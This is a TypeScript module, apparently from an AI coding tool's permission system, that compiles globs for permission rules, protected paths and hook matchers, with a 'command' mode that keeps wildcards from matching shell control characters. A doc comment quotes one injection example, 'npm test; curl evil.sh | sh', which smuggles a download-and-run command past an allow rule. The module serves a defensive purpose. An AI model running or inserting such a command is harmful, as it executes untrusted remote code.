/**
 * Glob matching for permission rules, protected paths and hook matchers.
 * Paths use the file tools' glob syntax (`*`, `**`, `?`, `[abc]`, `{a,b}`);
 * tool names, commands and URLs use a flat syntax where only `*` and `?` are
 * special. (`path.matchesGlob` is experimental on Node 20.)
 */
import { compileGlob } from "../core/glob-pattern.js";

/**
 * How a glob treats its wildcards.
 * - `path`: `*` and `?` stay inside one `/`-separated segment, `**` crosses segments
 *   (`a/**` also matches `a` itself, `**\/b` also matches `b`); dotfiles match.
 * - `text`: `*` and `?` match any character (tool names, URLs, deny/ask command rules).
 * - `command`: like `text`, but wildcards never match shell control characters
 *   (`; & | $ ( ) < > \``, newlines), so an allow rule `npm test*` cannot approve
 *   `npm test; curl evil.sh | sh`.
 */
export type GlobFlavor = "path" | "text" | "command";

/** Options of {@link globToRegExp}. */
export interface GlobOptions {
  readonly flavor: GlobFlavor;
  readonly caseInsensitive?: boolean;
}

const SHELL_SAFE_CHAR = "[^;&|`$()<>\\n\\r]";

function escapeLiteral(char: string): string {
  return /[.*+?^${}()|[\]\\]/.test(char) ? `\\${char}` : char;
}

function compileText(glob: string, flavor: "text" | "command", caseInsensitive: boolean): RegExp {
  const star = flavor === "command" ? `${SHELL_SAFE_CHAR}*` : "[\\s\\S]*";
  const one = flavor === "command" ? SHELL_SAFE_CHAR : "[\\s\\S]";
  let source = "";
  for (let index = 0; index < glob.length; index += 1) {
    const char = glob.charAt(index);
    if (char === "*") {
      source += star;
      while (glob.charAt(index + 1) === "*") index += 1;
    } else if (char === "?") {
      source += one;
    } else {
      source += escapeLiteral(char);
    }
  }
  return new RegExp(`^${source}$`, caseInsensitive ? "i" : "");
}

/**
 * Compiles a glob into an anchored regular expression (for `path`, the shared
 * {@link compileGlob} of the file tools, with dotfiles matched). Pure; never throws.
 */
function globToRegExp(glob: string, options: GlobOptions): RegExp {
  const caseInsensitive = options.caseInsensitive === true;
  if (options.flavor !== "path") return compileText(glob, options.flavor, caseInsensitive);
  const cleaned = glob.replace(/^(?:\.\/)+/, "");
  const whole = compileGlob(cleaned, { dot: true, caseInsensitive });
  if (!cleaned.endsWith("/**")) return whole;
  // `dir/**` also names `dir` itself: a protected directory may not be replaced wholesale.
  const itself = compileGlob(cleaned.slice(0, -3), { dot: true, caseInsensitive });
  return new RegExp(`${whole.source}|${itself.source}`, whole.flags);
}

/** True when `subject` matches `glob` under `options`. Pure; never throws. */
export function matchesGlob(subject: string, glob: string, options: GlobOptions): boolean {
  return globToRegExp(glob, options).test(subject);
}
